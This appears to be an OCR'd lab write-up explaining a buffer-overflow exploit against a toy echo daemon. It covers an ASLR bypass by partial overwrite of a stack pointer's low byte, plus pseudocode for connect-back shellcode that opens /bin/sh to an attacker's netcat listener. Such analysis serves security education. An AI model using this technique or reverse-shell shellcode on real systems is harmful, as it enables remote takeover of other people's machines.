echod stack


My goal with echod was to write an exploit that could reliably get a shell quickly -- in, say, a few hundred tries at most.Therefore, I looked for methods to avoid having to brute-force the location of the stack, which is the thing ASLR is best at hiding. The only data I control is the 200-byte buff on the stack, so unless I can write an exploit using only information from libc (on further reflection, this may be entirely possible), I need a way to figure out where the stack lives.

The plan

One standard trick for getting around stack randomization is the chain of rets trick explained in my talk. The problem is, the only pointer onto the stack within our 200-byte exploit window is the “addr” pointer, which points deeper into the stack, at a structure we have limited control over (we (somewhat) control the sin_addr field of the sockaddr_in). However, it turns out that we can abuse this pointer in a clever way. The fact that the overflow uses read directly, instead of something that writes a terminator byte (e.g. strcpy) means we have very precise control over what we're writing. In particular, wehave the ability to only overwite the low byte of the addr pointer.

If we look at the stack diagram to the left (produced from some careful work in gdb), we note that buff begins 156 bytes below claddr. This means that if we get lucky, and the final byte of addr is 0x9c or greater, addr and &buff will differ only in the LSByte, and we can generate a pointer to buff by overwriting the bottom byte of addr. Moreover, we know that values on the stack are word-aligned, so there are very few possibilities for that low byte. In fact, it turnsout that the stack is not only word-aligned, but 16-byte-aligned 1, which means that the low nibble is always the same across all runs of echod If a search of the LSB fails, we can search the 2nd LSB, which still gives us only about 256*16 = 4096 possibilities. We could conceivably still get lucky, if addr points to, e.g. 0xbf880032, but this is extremely unlikely, so we'll ignore that possibility for now.

One last trick

But it turns out we can boost our odds even a littlebit further. Instead of targetting the beginning of buff, we can put a jmp -98 at the start of the last word in buff, and aim for that. With a difference of 0x3c between claddr and that value, we now have a 3/4 chance of not having to explore the 2nd LSB at all. And even if we do have to, we then know the LSB must be greater than 0xC4, or else the first pass would have found it. And the LSnibble still must be 0xC, so our extended search space is roughly 12 + 256*4 = 1036, which is easily searchable in a few seconds. And in most cases, we'll get it in one of those first 12.

We could even stick the jmp, and our target, as far forward as %ebp, but I didn't bother, and it doesn't really matter.

The shellcode

As mentioned, I was writing an exploit for a shell, so my shellcode is a standard connect-back code that opens a socket to the attacker's machine, dup's some fd's, and then execs /bin/sh. In essence, it does:

          fd = socket(PF_INET, SOCK_STREAM, 0);
          connect(fd, [addr], [port]);
          dup2(fd, 0);
          dup2(fd, 1);
          execve("/bin/sh", ["/bin/sh", NULL], NULL);

The shellcode comes in at just under 100 bytes, and so barely fits in our buffer, leaving very little room for NOP padding. Fortunately, the above attack rapidly guesses an exact pointer to buff.

The code implements the above attack. Before running it, you must set up something, e.g. netcat, listening for incoming connections on port4444. Usage is perl my-ip target-hostname.

1 If we look at echod, we see that gcc has generatedcode that does
and $0xfffffff0,%esp
at the start of main(), assuring that the stack is 16-byte aligned. Thispresumably helps performance,but makes this exploit even easier.